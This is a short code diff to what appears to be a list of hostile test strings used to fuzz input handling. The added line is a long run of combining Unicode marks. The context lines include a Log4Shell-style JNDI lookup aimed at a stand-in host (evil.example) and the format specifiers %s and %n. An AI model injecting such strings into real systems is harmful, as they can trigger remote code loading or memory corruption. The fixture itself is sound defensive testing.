@@ -22,6 +22,7 @@ export const hostile: readonly string[] = [
   '\u0000\u0001\u0002\u0007\u0008\u007f',
   `{principal} $\{jndi:ldap://evil.example/a} %s %n`,
   '\u00a0\u3000spaces\u2003',
+  `piled${'\u0301\u0489'.repeat(500)} up`,
   'a'.repeat(20_000),
   '🙂'.repeat(5_000),
   '<'.repeat(5_000),
